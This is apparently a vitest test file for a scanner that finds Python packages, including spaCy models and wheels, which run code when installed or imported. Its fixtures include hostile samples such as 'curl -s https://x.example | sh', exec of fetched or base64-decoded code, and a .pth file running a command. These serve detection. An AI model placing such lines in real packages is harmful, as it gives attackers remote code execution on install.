// Models that are packages of Python: what runs when they are installed or imported.
import { describe, expect, test } from "vitest";
import { buildZip } from "../formats/zip/testing/build.ts";
import { packageLines } from "./package-code.ts";
import { actsIn } from "./testing/pickles.ts";

const meta = '{"lang": "en", "name": "core_web", "spacy_version": ">=3.7"}';
const config =
  '[nlp]\nlang = "en"\n[components.ner.model]\n@architectures = "spacy.TransitionBasedParser.v2"\n';
/** As spaCy writes them. */
const init =
  "from pathlib import Path\nfrom spacy.util import load_model_from_init_py, get_lang_class\n\ndef load(**overrides):\n    return load_model_from_init_py(__file__, **overrides)\n";
const setup =
  "import io, json\nfrom os import path, walk\nfrom shutil import copy\nfrom setuptools import setup\n\ndef load_meta(fp):\n    with io.open(fp, encoding='utf8') as f:\n        return json.load(f)\n\ndef setup_package():\n    root = path.abspath(path.dirname(__file__))\n    copy(path.join(root, 'meta.json'), root)\n    setup(name='en')\n\nif __name__ == '__main__':\n    setup_package()\n";

type Files = Readonly<Record<string, string>>;

function acts(files: Files): readonly string[] {
  const members = Object.entries(files).map(([name, text]) => ({
    name,
    size: text.length,
    read: (limit: number) => Buffer.from(text).subarray(0, limit),
  }));
  return packageLines(members).flatMap(({ acts: found = [] }) => found.map(({ kind }) => kind));
}

const model = (files: Files): Files => ({
  "en-1/meta.json": meta,
  "en-1/en/en-1/config.cfg": config,
  "en-1/setup.py": setup,
  "en-1/en/__init__.py": init,
  ...files,
});

describe("a model of spaCy", () => {
  test.each([
    ["a command in setup.py", { "en-1/setup.py": `import os\nos.system('id')\n${setup}` }],
    [
      "a command while it is installed",
      {
        "en-1/setup.py": `${setup}\nimport subprocess\nclass Install:\n    def run(self):\n        subprocess.run(['id'])\n`,
      },
    ],
    ["a command in __init__", { "en-1/en/__init__.py": `import os as o\no.popen('id')\n${init}` }],
    [
      "in a function that is called at once",
      {
        "en-1/en/__init__.py": `import os\ndef a():\n    b()\ndef b():\n    os.system('id')\na()\n${init}`,
      },
    ],
    ["in another module", { "en-1/en/parts.py": "exec(open('x').read())\n" }],
    ["in a class", { "en-1/en/parts.py": "class A:\n    x = eval('1')\n" }],
  ])("%s", (_, files) => {
    expect(acts(model(files))).toEqual(["runs"]);
  });
  test("as spaCy writes it, it is silent", () => {
    expect(acts(model({}))).toEqual([]);
  });
  test("what a function does that nobody calls, and what tests do", () => {
    expect(
      acts(
        model({ "en-1/en/cli.py": "import subprocess\ndef run():\n    subprocess.run(['id'])\n" }),
      ),
    ).toEqual([]);
    expect(
      acts(model({ "en-1/tests/test_x.py": "import subprocess\nsubprocess.run(['id'])\n" })),
    ).toEqual([]);
  });
});

describe("every other package", () => {
  const wheel = (files: Files): Files => ({ "x-1.dist-info/METADATA": "Name: x\n", ...files });
  test.each([
    ["code that is decoded", { "setup.py": "import base64\nexec(base64.b64decode('aWQ='))\n" }],
    [
      "code that is fetched",
      {
        "x/__init__.py":
          "from urllib.request import urlopen\nexec(urlopen('https://x.example').read())\n",
      },
    ],
    [
      "a command that fetches",
      { "x/__init__.py": "import os\nos.system('curl -s https://x.example | sh')\n" },
    ],
    ["a path file", { "x.pth": "import os; os.system('id')\n" }],
  ])("%s", (_, files) => {
    expect(acts(wheel(files))).toEqual(["runs"]);
  });
  test.each([
    ["the version of itself", { "setup.py": "exec(open('x/version.py').read())\n" }],
    [
      "the state of git",
      { "setup.py": "import subprocess\nsubprocess.check_output(['git', 'describe'])\n" },
    ],
    [
      "setuptools' own path file",
      {
        "distutils-precedence.pth":
          "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n",
      },
    ],
    ["a library in it", { "x/__init__.py": "import ctypes\nlib = ctypes.CDLL('libx.so')\n" }],
  ])("%s", (_, files) => {
    expect(acts(wheel(files))).toEqual([]);
  });
  test("an archive that nobody installs", () => {
    expect(acts({ "notes.py": "import os\nos.system('curl https://x.example | sh')\n" })).toEqual(
      [],
    );
  });
});

test("in a wheel", () => {
  const files = model({ "en-1/en/__init__.py": `import os\nos.system('id')\n${init}` });
  const members = Object.entries(files).map(([name, data]) => ({ name, data }));
  expect(actsIn(buildZip(members))).toEqual(["runs"]);
});
